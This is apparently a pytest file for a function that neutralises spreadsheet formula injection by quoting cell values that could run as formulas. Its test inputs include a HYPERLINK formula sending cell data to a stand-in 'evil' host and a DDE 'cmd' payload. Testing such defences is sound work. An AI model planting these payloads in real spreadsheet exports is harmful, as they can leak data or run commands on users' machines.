import pytest

from integrations.spreadsheet_cells import neutralise_cell


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil/?"&A1)', '\'=HYPERLINK("http://evil/?"&A1)'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+5511987654321", "+5511987654321"),  # a phone: only a signed number, nothing can run
        ("-12,50", "-12,50"),
        ("Maria = feliz", "Maria = feliz"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_only_text_that_could_run_as_a_formula_is_quoted(value, expected):
    assert neutralise_cell(value) == expected
